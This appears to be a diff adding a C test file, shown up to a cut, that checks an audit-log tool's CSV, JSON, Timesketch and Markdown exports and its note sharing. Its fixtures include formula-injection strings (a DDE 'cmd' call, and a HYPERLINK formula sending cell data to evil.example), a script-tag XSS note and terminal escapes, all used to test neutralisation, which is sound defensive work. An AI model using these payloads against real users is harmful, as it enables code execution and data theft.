@@ -1,0 +1,737 @@
+/*
+ * test_export.c: exports and notes sharing read back by independent
+ * readers: CSV through a strict RFC 4180 parser written here (not the
+ * loader's), JSON through jansson. Same events, same tags and notes, in
+ * time order across windows; formula injection neutralised; Timesketch's
+ * three fields on every line; notes carried to a case loaded in another
+ * order, a second import adding nothing, a colleague's conflicting note
+ * kept beside one's own.
+ */
+#define _GNU_SOURCE /* asprintf */
+#include "testutil.h"
+
+#include <jansson.h>
+
+#include "annot.h"
+#include "export.h"
+#include "notes.h"
+#include "store.h"
+#include "timeparse.h"
+
+struct fixture {
+	char *dir, *path;
+	struct store *st;
+};
+
+enum { NBIG = 5000 };
+
+/* Values an attacker controls, each aimed at one reader. */
+static const char *const hostile_users[] = {
+	"=cmd|' /c calc'!a0@contoso.com", "+sum(1+1)*cmd@x.com", "-2+3@x.com", "@sum(1)@x.com",
+	"\tab@x.com", "\rcr@x.com", "plain@contoso.com", "quote\"comma,@x.com",
+	"new\nline@x.com", "'apos@x.com", "\xc3\xa9l\xc3\xa8ve@\xc3\xa9" "cole.fr", "esc\x1b[31m@x.com",
+};
+#define NHOSTILE (sizeof hostile_users / sizeof hostile_users[0])
+
+static const char *const ops[] = { "MailItemsAccessed", "New-InboxRule", "UserLoggedIn" };
+
+/*
+ * Load n events into st: event i has record id r-%05d, a time that makes
+ * time order differ from load order (three interleaved runs, as UAL and
+ * sign-in exports interleave), a hostile user for the first NHOSTILE, and
+ * a raw record naming its id. Loaded in the order given by reverse.
+ */
+static void load(struct store *st, int n, bool reverse, const char *srcname)
+{
+	char *cause = NULL;
+	struct store_load *ld = store_load_begin(st, &cause);
+	assert_non_null(ld);
+	assert_int_equal(store_load_source(ld, srcname, 1000, &cause), 0);
+	struct sink sk;
+	store_load_sink(ld, &sk);
+	for (int k = 0; k < n; k++) {
+		int i = reverse ? n - 1 - k : k;
+		char rid[32], raw[512], user[64], ip[32];
+		snprintf(rid, sizeof rid, "r-%05d", i);
+		const char *u = i < (int)NHOSTILE ? hostile_users[i] : NULL;
+		if (!u) {
+			snprintf(user, sizeof user, "user%d@contoso.com", i % 7);
+			u = user;
+		}
+		snprintf(ip, sizeof ip, "203.0.113.%d", i % 200);
+		snprintf(raw, sizeof raw,
+			 "{\"Id\":\"%s\",\"Operation\":\"%s\",\"i\":%d,\"s\":\"caf\\u00e9 \\u0007 \\\"q\\\"\"}", rid,
+			 ops[i % 3], i);
+		struct event ev;
+		memset(&ev, 0, sizeof ev);
+		ev.ts = 1686909600000LL + (int64_t)(i % 3) * 1000 + (int64_t)(i / 3) * 3000 + (i % 3 == 2 ? 1500 : 0);
+		ev.record_id = (struct sv){ rid, strlen(rid) };
+		ev.op = (struct sv){ ops[i % 3], strlen(ops[i % 3]) };
+		ev.user = (struct sv){ u, strlen(u) };
+		ev.ip = (struct sv){ ip, strlen(ip) };
+		ev.op_count = i % 3 == 0 ? i % 5 + 1 : -1;
+		ev.flags = i == 3 ? EVF_THROTTLED : 0;
+		ev.raw = (struct sv){ raw, strlen(raw) };
+		ev.line = (uint64_t)i + 2;
+		assert_int_equal(sk.event(sk.ctx, &ev, &cause), 0);
+	}
+	assert_int_equal(store_load_source_end(ld, "5eed5eed", "test", "utf-8", "complete", NULL, &cause), 0);
+	assert_int_equal(store_load_end(ld, &cause), 0);
+}
+
+static int setup(void **state)
+{
+	struct fixture *f = calloc(1, sizeof *f);
+	f->dir = tmpdir_new();
+	f->path = malloc(strlen(f->dir) + 16);
+	sprintf(f->path, "%s/a.case", f->dir);
+	char *cause = NULL;
+	if (store_open(f->path, STORE_CREATE, &f->st, &cause) < 0)
+		return -1;
+	load(f->st, NBIG, false, "big.json");
+	setenv("AUDITSCOPE_AUTHOR", "alice", 1);
+	setenv("AUDITSCOPE_NOW", "2024-03-01T10:00:00Z", 1);
+	*state = f;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	struct fixture *f = *state;
+	store_close(f->st);
+	tmpdir_remove(f->dir);
+	free(f->dir);
+	free(f->path);
+	free(f);
+	return 0;
+}
+
+static int64_t ev_id(struct store *st, const char *rid)
+{
+	sqlite3_stmt *q;
+	int64_t id = -1;
+	assert_int_equal(sqlite3_prepare_v2(store_db(st), "SELECT id FROM events WHERE record_id = ?", -1, &q, NULL),
+			 SQLITE_OK);
+	sqlite3_bind_text(q, 1, rid, -1, SQLITE_STATIC);
+	if (sqlite3_step(q) == SQLITE_ROW)
+		id = sqlite3_column_int64(q, 0);
+	sqlite3_finalize(q);
+	assert_true(id > 0);
+	return id;
+}
+
+static const char *const note_texts[] = {
+	"first line, \"quoted\"\nsecond line",
+	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	"\xe2\x80\xae reversed \xf0\x9f\x94\x91 emoji; caf\xc3\xa9\r\nCRLF",
+	"<script>alert(1)</script> [link](http://x) # not a heading | pipe `tick`",
+};
+#define NNOTES (sizeof note_texts / sizeof note_texts[0])
+
+/* Mark events r-00000 .. r-00011 (the hostile ones), plus a few far apart;
+ * tag some, note some, a second author on one. */
+static void annotate(struct store *st)
+{
+	char *cause = NULL;
+	const char *extra[] = { "r-04999", "r-02500", "r-02048", "r-00100" };
+	for (size_t i = 0; i < NHOSTILE; i++) {
+		char rid[32];
+		snprintf(rid, sizeof rid, "r-%05zu", i);
+		int64_t e = ev_id(st, rid);
+		assert_int_equal(annot_mark(st, e, true, &cause), 1);
+		if (i % 2 == 0)
+			assert_int_equal(annot_tag_add(st, e, i % 4 ? "exfil" : "=formula tag", &cause), 1);
+		if (i < NNOTES)
+			assert_int_equal(annot_note_set(st, e, note_texts[i], &cause), 1);
+	}
+	for (size_t i = 0; i < sizeof extra / sizeof extra[0]; i++) {
+		int64_t e = ev_id(st, extra[i]);
+		assert_int_equal(annot_mark(st, e, true, &cause), 1);
+		assert_int_equal(annot_tag_add(st, e, "far", &cause), 1);
+	}
+	setenv("AUDITSCOPE_AUTHOR", "bob \xc3\xa9", 1);
+	setenv("AUDITSCOPE_NOW", "2024-03-02T08:00:00Z", 1);
+	assert_int_equal(annot_note_set(st, ev_id(st, "r-00001"), "bob disagrees,\n\"strongly\"", &cause), 1);
+	setenv("AUDITSCOPE_AUTHOR", "alice", 1);
+	setenv("AUDITSCOPE_NOW", "2024-03-01T10:00:00Z", 1);
+}
+
+/* Run an export into memory; returns the text (caller frees). */
+static char *run_export(struct store *st, enum export_format fmt, const char *filter, bool marked,
+			int64_t *events)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *m = open_memstream(&buf, &len);
+	struct export_opts o = { .format = fmt, .filter = filter, .marked = marked, .case_label = "a.case" };
+	struct export_stats s;
+	char *cause = NULL;
+	int rc = export_run(st, m, &o, &s, &cause);
+	if (rc < 0)
+		print_error("export: %s\n", cause);
+	assert_int_equal(rc, 0);
+	fclose(m);
+	if (events)
+		*events = s.events;
+	return buf;
+}
+
+/* ------------------------------------------------------------------ */
+/* A strict RFC 4180 reader: CRLF records, quoted fields with doubled
+ * quotes, nothing after a closing quote but a comma or the record end. */
+
+struct csv_rec {
+	char **f;
+	size_t n;
+};
+
+static bool csv_read(const char **pp, struct csv_rec *r)
+{
+	const char *p = *pp;
+	r->f = NULL;
+	r->n = 0;
+	if (!*p)
+		return false;
+	for (;;) {
+		size_t cap = 64, n = 0;
+		char *v = malloc(cap);
+		if (*p == '"') {
+			p++;
+			for (;;) {
+				assert_true(*p != '\0'); /* unterminated quote */
+				if (*p == '"' && p[1] == '"') {
+					p += 2;
+					v[n++] = '"';
+				} else if (*p == '"') {
+					p++;
+					break;
+				} else {
+					v[n++] = *p++;
+				}
+				if (n + 2 > cap)
+					v = realloc(v, cap *= 2);
+			}
+			assert_true(*p == ',' || (p[0] == '\r' && p[1] == '\n'));
+		} else {
+			while (*p && *p != ',' && *p != '\r') {
+				assert_true(*p != '"' && *p != '\n'); /* bare quote or LF in unquoted field */
+				v[n++] = *p++;
+				if (n + 2 > cap)
+					v = realloc(v, cap *= 2);
+			}
+		}
+		v[n] = '\0';
+		r->f = realloc(r->f, (r->n + 1) * sizeof *r->f);
+		r->f[r->n++] = v;
+		if (*p == ',') {
+			p++;
+			continue;
+		}
+		assert_true(p[0] == '\r' && p[1] == '\n');
+		p += 2;
+		break;
+	}
+	*pp = p;
+	return true;
+}
+
+static void csv_free(struct csv_rec *r)
+{
+	for (size_t i = 0; i < r->n; i++)
+		free(r->f[i]);
+	free(r->f);
+}
+
+/* The reader's side of neutralisation: one leading apostrophe dropped. */
+static const char *unneutral(const char *s)
+{
+	return s[0] == '\'' ? s + 1 : s;
+}
+
+static int col_index(const struct csv_rec *hdr, const char *name)
+{
+	for (size_t i = 0; i < hdr->n; i++)
+		if (!strcmp(hdr->f[i], name))
+			return (int)i;
+	fail_msg("no column %s", name);
+	return -1;
+}
+
+/* The expected notes cell of an event, from the case. */
+static char *expected_notes(struct store *st, const char *rid)
+{
+	struct annot_info *ai;
+	char *cause = NULL;
+	assert_int_equal(annot_get_key(st, rid, KIND_UAL, &ai, &cause), 0);
+	char *s = strdup("");
+	for (size_t i = 0; i < ai->nnotes; i++) {
+		char *n;
+		assert_true(asprintf(&n, "%s%s[%s %s] %s", s, i ? "\n" : "", ai->notes[i].author, ai->notes[i].created,
+				     ai->notes[i].text) > 0);
+		free(s);
+		s = n;
+	}
+	annot_info_free(ai);
+	return s;
+}
+
+static void test_csv_round_trip(void **state)
+{
+	struct fixture *f = *state;
+	annotate(f->st);
+	int64_t n;
+	char *text = run_export(f->st, EXPORT_CSV, NULL, false, &n);
+	assert_int_equal(n, NBIG);
+	const char *p = text;
+	struct csv_rec hdr, r;
+	assert_true(csv_read(&p, &hdr));
+	assert_int_equal(hdr.n, 26);
+	int c_ts = col_index(&hdr, "ts"), c_rid = col_index(&hdr, "record_id"), c_user = col_index(&hdr, "user"),
+	    c_op = col_index(&hdr, "op"), c_tags = col_index(&hdr, "tags"), c_notes = col_index(&hdr, "notes"),
+	    c_marked = col_index(&hdr, "marked"), c_src = col_index(&hdr, "source"),
+	    c_sha = col_index(&hdr, "source_sha256"), c_line = col_index(&hdr, "line"),
+	    c_thr = col_index(&hdr, "throttled"), c_opc = col_index(&hdr, "op_count");
+
+	/* the case's view of every event, in time order */
+	sqlite3_stmt *q;
+	assert_int_equal(sqlite3_prepare_v2(store_db(f->st),
+		"SELECT e.record_id, e.ts, (SELECT v FROM vals WHERE id = e.user), (SELECT v FROM vals WHERE id = e.op),"
+		" e.line, e.op_count, e.flags,"
+		" EXISTS(SELECT 1 FROM marks m WHERE m.record_id = e.record_id),"
+		" (SELECT group_concat(tag, ',') FROM (SELECT tag FROM tags t WHERE t.record_id = e.record_id ORDER BY tag))"
+		" FROM events e ORDER BY e.ts, e.id", -1, &q, NULL), SQLITE_OK);
+	int64_t rows = 0, prev_ts = INT64_MIN, formulas = 0;
+	while (csv_read(&p, &r)) {
+		assert_int_equal(r.n, 26);
+		assert_int_equal(sqlite3_step(q), SQLITE_ROW);
+		const char *rid = (const char *)sqlite3_column_text(q, 0);
+		assert_string_equal(unneutral(r.f[c_rid]), rid);
+		int64_t ts;
+		assert_true(time_parse(r.f[c_ts], strlen(r.f[c_ts]), &ts));
+		assert_int_equal(ts, sqlite3_column_int64(q, 1));
+		assert_true(ts >= prev_ts);
+		prev_ts = ts;
+		assert_string_equal(unneutral(r.f[c_user]), (const char *)sqlite3_column_text(q, 2));
+		assert_string_equal(unneutral(r.f[c_op]), (const char *)sqlite3_column_text(q, 3));
+		char line[24];
+		snprintf(line, sizeof line, "%lld", (long long)sqlite3_column_int64(q, 4));
+		assert_string_equal(r.f[c_line], line);
+		if (sqlite3_column_type(q, 5) == SQLITE_NULL)
+			assert_string_equal(r.f[c_opc], "");
+		else
+			assert_int_equal(atoll(r.f[c_opc]), sqlite3_column_int64(q, 5));
+		assert_string_equal(r.f[c_thr], sqlite3_column_int(q, 6) & EVF_THROTTLED ? "true" : "false");
+		assert_string_equal(r.f[c_marked], sqlite3_column_int(q, 7) ? "true" : "false");
+		const char *tags = (const char *)sqlite3_column_text(q, 8);
+		assert_string_equal(unneutral(r.f[c_tags]), tags ? tags : "");
+		char *notes = expected_notes(f->st, rid);
+		assert_string_equal(unneutral(r.f[c_notes]), notes);
+		free(notes);
+		assert_string_equal(r.f[c_src], "big.json");
+		assert_string_equal(r.f[c_sha], "5eed5eed");
+		/* no cell a spreadsheet would run */
+		for (size_t i = 0; i < r.n; i++) {
+			assert_true(r.f[i][0] == '\0' || strchr("=+-@\t\r", r.f[i][0]) == NULL);
+			formulas += r.f[i][0] == '\'';
+		}
+		csv_free(&r);
+		rows++;
+	}
+	assert_int_equal(sqlite3_step(q), SQLITE_DONE);
+	sqlite3_finalize(q);
+	assert_int_equal(rows, NBIG);
+	/* 7 users + notes 1 (=HYPERLINK) + the "=formula tag" cells */
+	assert_true(formulas >= 9);
+	csv_free(&hdr);
+	free(text);
+}
+
+static void test_neutralise(void **state)
+{
+	(void)state;
+	struct {
+		const char *in, *out;
+	} cases[] = {
+		{ "=1+1", "'=1+1" }, { "+1", "'+1" }, { "-1", "'-1" }, { "@SUM(A1)", "'@SUM(A1)" },
+		{ "\tx", "'\tx" }, { "\rx", "'\rx" }, { "'quoted", "''quoted" }, { "a=1", "a=1" },
+		{ "", "" }, { " =1", " =1" }, { "\xc3\xa9=", "\xc3\xa9=" },
+	};
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		char *s = export_csv_neutralise(cases[i].in);
+		assert_string_equal(s, cases[i].out);
+		free(s);
+	}
+}
+
+/* JSON Lines: every line an object; the fields, tags, notes and the raw
+ * record are the case's. */
+static void test_jsonl_round_trip(void **state)
+{
+	struct fixture *f = *state;
+	annotate(f->st);
+	int64_t n;
+	char *text = run_export(f->st, EXPORT_JSONL, NULL, false, &n);
+	assert_int_equal(n, NBIG);
+	sqlite3_stmt *q;
+	assert_int_equal(sqlite3_prepare_v2(store_db(f->st), "SELECT id, record_id, ts, (SELECT v FROM vals WHERE id = e.user)"
+					    " FROM events e ORDER BY ts, id", -1, &q, NULL), SQLITE_OK);
+	char *save, *line = strtok_r(text, "\n", &save);
+	int64_t rows = 0;
+	for (; line; line = strtok_r(NULL, "\n", &save), rows++) {
+		json_error_t err;
+		json_t *o = json_loads(line, 0, &err);
+		if (!o)
+			fail_msg("line %lld: %s", (long long)rows + 1, err.text);
+		assert_int_equal(sqlite3_step(q), SQLITE_ROW);
+		int64_t id = sqlite3_column_int64(q, 0);
+		const char *rid = (const char *)sqlite3_column_text(q, 1);
+		assert_string_equal(json_string_value(json_object_get(o, "record_id")), rid);
+		assert_string_equal(json_string_value(json_object_get(o, "user")), (const char *)sqlite3_column_text(q, 3));
+		const char *tss = json_string_value(json_object_get(o, "ts"));
+		int64_t ts;
+		assert_true(tss && time_parse(tss, strlen(tss), &ts));
+		assert_int_equal(ts, sqlite3_column_int64(q, 2));
+		assert_string_equal(json_string_value(json_object_get(o, "kind")), "ual");
+		assert_string_equal(json_string_value(json_object_get(o, "source")), "big.json");
+		assert_string_equal(json_string_value(json_object_get(o, "source_sha256")), "5eed5eed");
+		assert_true(json_is_integer(json_object_get(o, "line")));
+		/* the raw record, as the case holds it */
+		size_t rawlen;
+		char *raw = store_raw(f->st, id, &rawlen);
+		json_t *want = json_loadb(raw, rawlen, 0, &err);
+		assert_non_null(want);
+		assert_true(json_equal(json_object_get(o, "raw"), want));
+		json_decref(want);
+		free(raw);
+		/* annotations */
+		struct annot_info *ai;
+		char *cause = NULL;
+		assert_int_equal(annot_get_key(f->st, rid, KIND_UAL, &ai, &cause), 0);
+		assert_true(json_is_boolean(json_object_get(o, "marked")));
+		assert_int_equal(json_is_true(json_object_get(o, "marked")), ai->marked);
+		json_t *tags = json_object_get(o, "tags"), *notes = json_object_get(o, "notes");
+		assert_int_equal(json_array_size(tags), ai->ntags);
+		for (size_t i = 0; i < ai->ntags; i++)
+			assert_string_equal(json_string_value(json_array_get(tags, i)), ai->tags[i]);
+		assert_int_equal(json_array_size(notes), ai->nnotes);
+		for (size_t i = 0; i < ai->nnotes; i++) {
+			json_t *nt = json_array_get(notes, i);
+			assert_string_equal(json_string_value(json_object_get(nt, "author")), ai->notes[i].author);
+			assert_string_equal(json_string_value(json_object_get(nt, "created")), ai->notes[i].created);
+			assert_string_equal(json_string_value(json_object_get(nt, "text")), ai->notes[i].text);
+		}
+		annot_info_free(ai);
+		json_decref(o);
+	}
+	assert_int_equal(sqlite3_step(q), SQLITE_DONE);
+	sqlite3_finalize(q);
+	assert_int_equal(rows, NBIG);
+	free(text);
+}
+
+/* Timesketch: message, datetime (ISO 8601) and timestamp_desc on every
+ * line; tags as "tag", notes as "comment". Only the marked ones here. */
+static void test_timesketch(void **state)
+{
+	struct fixture *f = *state;
+	annotate(f->st);
+	int64_t n;
+	char *text = run_export(f->st, EXPORT_TIMESKETCH, NULL, true, &n);
+	assert_int_equal(n, NHOSTILE + 4);
+	char *save, *line = strtok_r(text, "\n", &save);
+	int64_t rows = 0, prev = INT64_MIN;
+	bool saw_comment = false;
+	for (; line; line = strtok_r(NULL, "\n", &save), rows++) {
+		json_error_t err;
+		json_t *o = json_loads(line, 0, &err);
+		assert_non_null(o);
+		const char *msg = json_string_value(json_object_get(o, "message"));
+		const char *dt = json_string_value(json_object_get(o, "datetime"));
+		const char *desc = json_string_value(json_object_get(o, "timestamp_desc"));
+		assert_true(msg && *msg && dt && desc && *desc);
+		/* YYYY-MM-DDTHH:MM:SS.fff+00:00, and it means the event's time */
+		assert_int_equal(strlen(dt), 29);
+		for (int i = 0; i < 29; i++) {
+			const char *shape = "dddd-dd-ddTdd:dd:dd.ddd+dd:dd";
+			if (shape[i] == 'd')
+				assert_true(dt[i] >= '0' && dt[i] <= '9');
+			else
+				assert_int_equal(dt[i], shape[i]);
+		}
+		int64_t ts;
+		assert_true(time_parse(dt, strlen(dt), &ts));
+		assert_int_equal(json_integer_value(json_object_get(o, "timestamp")), ts * 1000);
+		assert_true(ts >= prev);
+		prev = ts;
+		assert_non_null(strstr(msg, json_string_value(json_object_get(o, "op"))));
+		assert_true(json_is_array(json_object_get(o, "tag")));
+		json_t *c = json_object_get(o, "comment");
+		assert_true(json_is_array(c));
+		if (!strcmp(json_string_value(json_object_get(o, "record_id")), "r-00001")) {
+			assert_int_equal(json_array_size(c), 2);
+			assert_string_equal(json_string_value(json_array_get(c, 1)),
+					    "bob \xc3\xa9 (2024-03-02T08:00:00.000Z): bob disagrees,\n\"strongly\"");
+			saw_comment = true;
+		}
+		assert_null(json_object_get(o, "raw"));
+		json_decref(o);
+	}
+	assert_true(saw_comment);
+	assert_int_equal(rows, NHOSTILE + 4);
+	free(text);
+}
+
+/* A filter narrows, --marked narrows further; a bad filter is a
+ * "filter:" error. */
+static void test_filter_and_marked(void **state)
+{
+	struct fixture *f = *state;
+	annotate(f->st);
+	int64_t n;
+	char *t = run_export(f->st, EXPORT_JSONL, "op=New-InboxRule", false, &n);
+	assert_int_equal(n, (NBIG + 1) / 3);
+	free(t);
+	t = run_export(f->st, EXPORT_JSONL, "op=New-InboxRule", true, &n);
+	/* marked: r-00001, 4, 7, 10 and r-00100, r-02500, r-04999 (i % 3 == 1) */
+	assert_int_equal(n, 7);
+	free(t);
+	char *cause = NULL;
+	FILE *m = fopen("/dev/null", "w");
+	struct export_opts o = { .format = EXPORT_CSV, .filter = "user=" };
+	assert_int_equal(export_run(f->st, m, &o, NULL, &cause), -1);
+	assert_non_null(cause);
+	assert_int_equal(strncmp(cause, "filter:", 7), 0);
+	free(cause);
+	fclose(m);
+	assert_int_equal(export_format_parse("timesketch"), EXPORT_TIMESKETCH);
+	assert_int_equal(export_format_parse("md"), EXPORT_MARKDOWN);
+	assert_int_equal(export_format_parse("xlsx"), -1);
+}
+
+/* A write that fails is an error, not a short file reported as done. */
+static void test_write_error(void **state)
+{
+	struct fixture *f = *state;
+	FILE *full = fopen("/dev/full", "w");
+	if (!full)
+		skip();
+	char *cause = NULL;
+	struct export_opts o = { .format = EXPORT_JSONL };
+	assert_int_equal(export_run(f->st, full, &o, NULL, &cause), -1);
+	assert_non_null(strstr(cause, "write error"));
+	free(cause);
+	fclose(full);
+}
+
+/* The report escapes what Markdown or HTML would act on. */
+static void test_markdown_escapes(void **state)
+{
+	struct fixture *f = *state;
+	annotate(f->st);
+	int64_t n;
+	char *md = run_export(f->st, EXPORT_MARKDOWN, NULL, false, &n);
+	assert_int_equal(n, NHOSTILE + 4);
+	assert_non_null(strstr(md, "# Audit log report: a.case"));
+	assert_non_null(strstr(md, "on 2024-03-01T10:00:00.000Z"));
+	assert_null(strstr(md, "<script>"));
+	assert_non_null(strstr(md, "\\<script\\>alert(1)\\</script\\>"));
+	assert_non_null(strstr(md, "\\[link\\](http://x)"));
+	assert_non_null(strstr(md, "\\`tick\\`"));
+	assert_null(strstr(md, "\x1b"));
+	assert_non_null(strstr(md, "\\u202e")); /* the bidi override made visible */
+	/* a note's second line is quoted too */
+	assert_non_null(strstr(md, "> first line, \"quoted\"\n> second line\n"));
+	assert_non_null(strstr(md, "Note by bob \xc3\xa9 (2024-03-02T08:00:00.000Z):"));
+	/* a user name as a heading is escaped text; as a value, a code span */
+	assert_non_null(strstr(md, "by \\=cmd\\|' /c calc'!a0@contoso.com\n"));
+	assert_non_null(strstr(md, "user `=cmd|' /c calc'!a0@contoso.com`"));
+	/* every bookmarked event carries its provenance */
+	assert_non_null(strstr(md, "- record: `r-00000` (ual) from `big.json` line 2, SHA-256 `5eed5eed`\n"));
+	assert_non_null(strstr(md, "## How to reproduce"));
+	assert_non_null(strstr(md, "5eed5eed  big.json\n"));
+	free(md);
+}
+
+/* ------------------------------------------------------------------ */
+/* Notes sharing */
+
+static char *notes_text(struct store *st, struct notes_stats *s)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *m = open_memstream(&buf, &len);
+	char *cause = NULL;
+	assert_int_equal(notes_export(st, m, "x.case", s, &cause), 0);
+	fclose(m);
+	return buf;
+}
+
+static int import_text(struct store *st, const char *text, struct notes_stats *s, char **cause)
+{
+	FILE *m = fmemopen((void *)text, strlen(text), "r");
+	int rc = notes_import(st, m, "notes.jsonl", s, cause);
+	fclose(m);
+	return rc;
+}
+
+static int64_t scalar(struct store *st, const char *sql)
+{
+	sqlite3_stmt *q;
+	int64_t v = -1;
+	if (sqlite3_prepare_v2(store_db(st), sql, -1, &q, NULL) != SQLITE_OK)
+		return -2;
+	if (sqlite3_step(q) == SQLITE_ROW)
+		v = sqlite3_column_int64(q, 0);
+	sqlite3_finalize(q);
+	return v;
+}
+
+static void test_notes_round_trip(void **state)
+{
+	struct fixture *f = *state;
+	annotate(f->st);
+	char *cause = NULL;
+	assert_int_equal(annot_view_save(f->st, "rules", "op=New-InboxRule", NULL, "ts,user", &cause), 1);
+	struct notes_stats s;
+	char *a = notes_text(f->st, &s);
+	assert_int_equal(s.marks, NHOSTILE + 4);
+	assert_int_equal(s.notes, NNOTES + 1);
+	assert_int_equal(s.views, 1);
+	assert_int_equal(strncmp(a, "{\"auditscope_notes\":1,\"exported\":\"2024-03-01T10:00:00.000Z\",\"by\":\"alice\"", 70), 0);
+
+	/* a second analyst's case: the same records loaded in the other
+	 * order, so every row id differs; bob has his own note on r-00002 */
+	char *bpath = malloc(strlen(f->dir) + 16);
+	sprintf(bpath, "%s/b.case", f->dir);
+	struct store *b;
+	assert_int_equal(store_open(bpath, STORE_CREATE, &b, &cause), 0);
+	load(b, NBIG, true, "big.json");
+	assert_true(ev_id(b, "r-00002") != ev_id(f->st, "r-00002"));
+	setenv("AUDITSCOPE_AUTHOR", "bob", 1);
+	setenv("AUDITSCOPE_NOW", "2024-03-05T00:00:00Z", 1);
+	assert_int_equal(annot_note_set(b, ev_id(b, "r-00002"), "bob's reading of it", &cause), 1);
+	assert_int_equal(annot_tag_add(b, ev_id(b, "r-00002"), "exfil", &cause), 1);
+	setenv("AUDITSCOPE_AUTHOR", "alice", 1);
+	setenv("AUDITSCOPE_NOW", "2024-03-01T10:00:00Z", 1);
+
+	assert_int_equal(import_text(b, a, &s, &cause), 0);
+	assert_int_equal(s.marks, NHOSTILE + 4);
+	assert_int_equal(s.notes, NNOTES + 1);
+	assert_int_equal(s.tags, scalar(f->st, "SELECT count(*) FROM tags") - 1); /* r-00002 exfil was there */
+	assert_int_equal(s.present, 1);
+	assert_int_equal(s.views, 1);
+	assert_int_equal(s.absent, 0);
+	/* both notes on r-00002, each attributed */
+	struct annot_info *ai;
+	assert_int_equal(annot_get(b, ev_id(b, "r-00002"), &ai, &cause), 0);
+	assert_int_equal(ai->nnotes, 2);
+	assert_string_equal(ai->notes[0].author, "alice");
+	assert_string_equal(ai->notes[0].text, note_texts[2]);
+	assert_string_equal(ai->notes[1].author, "bob");
+	annot_info_free(ai);
+	/* every one of alice's annotations is on the same record in b */
+	const char *tables[] = {
+		"SELECT count(*) FROM marks m WHERE NOT EXISTS (SELECT 1 FROM bc.marks x WHERE x.record_id = m.record_id"
+		" AND x.kind = m.kind AND x.author = m.author AND x.created = m.created)",
+		"SELECT count(*) FROM tags m WHERE NOT EXISTS (SELECT 1 FROM bc.tags x WHERE x.record_id = m.record_id"
+		" AND x.kind = m.kind AND x.tag = m.tag)",
+		"SELECT count(*) FROM notes m WHERE NOT EXISTS (SELECT 1 FROM bc.notes x WHERE x.record_id = m.record_id"
+		" AND x.kind = m.kind AND x.author = m.author AND x.created = m.created AND x.text = m.text)",
+	};
+	char *attach = sqlite3_mprintf("ATTACH %Q AS bc", bpath);
+	assert_int_equal(sqlite3_exec(store_db(f->st), attach, NULL, NULL, NULL), SQLITE_OK);
+	sqlite3_free(attach);
+	for (size_t i = 0; i < 3; i++)
+		assert_int_equal(scalar(f->st, tables[i]), 0);
+	assert_int_equal(sqlite3_exec(store_db(f->st), "DETACH bc", NULL, NULL, NULL), SQLITE_OK);
+	/* and the exports of b's timeline agree on alice's marks */
+	int64_t na, nb;
+	free(run_export(f->st, EXPORT_CSV, NULL, true, &na));
+	free(run_export(b, EXPORT_CSV, NULL, true, &nb));
+	assert_int_equal(na, nb);
+
+	/* importing again changes nothing */
+	int64_t before = scalar(b, "SELECT count(*) FROM notes") * 1000000 + scalar(b, "SELECT count(*) FROM tags") * 1000 +
+			 scalar(b, "SELECT count(*) FROM marks");
+	assert_int_equal(import_text(b, a, &s, &cause), 0);
+	assert_int_equal(s.marks + s.tags + s.notes + s.views, 0);
+	assert_true(s.present > 0);
+	int64_t after = scalar(b, "SELECT count(*) FROM notes") * 1000000 + scalar(b, "SELECT count(*) FROM tags") * 1000 +
+			scalar(b, "SELECT count(*) FROM marks");
+	assert_int_equal(before, after);
+
+	/* and back: alice gets bob's note, and her own come back as present */
+	char *bt = notes_text(b, NULL);
+	assert_int_equal(import_text(f->st, bt, &s, &cause), 0);
+	assert_int_equal(s.notes, 1);
+	assert_int_equal(s.marks, 0);
+	free(bt);
+	store_close(b);
+	free(bpath);
+	free(a);
+}
+
+/* A bad line stops the import with its line number; nothing is kept. */
+static void test_notes_import_errors(void **state)
+{
+	struct fixture *f = *state;
+	static const char hdr[] = "{\"auditscope_notes\":1,\"exported\":\"x\",\"by\":\"a\",\"case\":\"c\"}\n";
+	static const char ok[] =
+		"{\"type\":\"mark\",\"record_id\":\"r-00005\",\"kind\":\"ual\",\"author\":\"z\",\"created\":\"t\"}\n";
+	struct {
+		const char *body, *why;
+	} cases[] = {
+		{ "not json\n", "notes.jsonl:3: not JSON" },
+		{ "[1]\n", "notes.jsonl:3: expected a JSON object" },
+		{ "{\"type\":\"mark\",\"record_id\":\"r\",\"kind\":\"ual\",\"author\":\"z\"}\n", "notes.jsonl:3: expected a non-empty string for created" },
+		{ "{\"type\":\"mark\",\"record_id\":\"r\",\"kind\":\"evtx\",\"author\":\"z\",\"created\":\"t\"}\n", "notes.jsonl:3: kind must be" },
+		{ "{\"type\":\"tag\",\"record_id\":\"r\",\"kind\":\"ual\",\"author\":\"z\",\"created\":\"t\",\"tag\":\"a,b\"}\n", "notes.jsonl:3: tag:" },
+		{ "{\"type\":\"note\",\"record_id\":\"r\",\"kind\":0,\"author\":\"z\",\"created\":\"t\",\"text\":\"a\\u0000b\"}\n", "notes.jsonl:3: not JSON" },
+		{ "{\"type\":\"bogus\",\"record_id\":\"r\",\"kind\":0,\"author\":\"z\",\"created\":\"t\"}\n", "notes.jsonl:3: unknown type bogus" },
+	};
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		char text[1024];
+		snprintf(text, sizeof text, "%s%s%s", hdr, ok, cases[i].body);
+		char *cause = NULL;
+		struct notes_stats s;
+		assert_int_equal(import_text(f->st, text, &s, &cause), -1);
+		if (!strstr(cause, cases[i].why))
+			fail_msg("case %zu: '%s' does not say '%s'", i, cause, cases[i].why);
+		free(cause);
+		assert_int_equal(scalar(f->st, "SELECT count(*) FROM marks"), 0); /* line 2 rolled back */
+	}
+	char *cause = NULL;
+	struct notes_stats s;
+	assert_int_equal(import_text(f->st, ok, &s, &cause), -1); /* no header */
+	assert_non_null(strstr(cause, "not an auditscope notes file"));
+	free(cause);
+	cause = NULL;
+	assert_int_equal(import_text(f->st, "", &s, &cause), -1);
+	free(cause);
+	cause = NULL;
+	/* the good file imports; a record this case lacks is kept and counted */
+	char text[1024];
+	snprintf(text, sizeof text, "%s%s%s", hdr, ok,
+		 "{\"type\":\"note\",\"record_id\":\"nowhere\",\"kind\":\"signin\",\"author\":\"z\",\"created\":\"t\",\"text\":\"later\"}\r\n");
+	assert_int_equal(import_text(f->st, text, &s, &cause), 0);
+	assert_int_equal(s.marks, 1);
+	assert_int_equal(s.notes, 1);
+	assert_int_equal(s.absent, 1);
